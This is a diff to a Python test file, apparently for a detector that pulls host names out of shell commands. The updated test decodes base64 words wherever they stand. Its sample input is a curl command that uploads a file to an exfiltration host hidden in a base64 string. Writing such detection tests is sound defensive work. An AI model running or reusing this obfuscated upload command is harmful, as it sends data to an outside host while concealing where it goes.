@@ -61,7 +61,10 @@ def test_host_tokens_arm_namespaces_ports_and_versions():
 def test_base64_literals_decoded_by_the_script_itself():
     url = "aHR0cHM6Ly91cGxvYWQuZXhmaWwtc3RvcmUuY29tL2Ryb3A="  # https://upload.exfil-store.com/drop
     assert "upload.exfil-store.com" in _hosts(f'curl -T d "$(echo {url} | base64 -d)"')
-    assert "upload.exfil-store.com" not in _hosts(f"checksum {url} of the file")  # nothing decodes it
+    # Round 83: an encoded word is read wherever it stands (a script may decode it by a function of its own);
+    # a word that decodes to no text, as a real checksum does, names nothing.
+    assert "upload.exfil-store.com" in _hosts(f"checksum {url} of the file")
+    assert _hosts("checksum q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQ of the file") == set()
 
 
 def test_iam_statements_grant_or_deny_they_send_nothing():
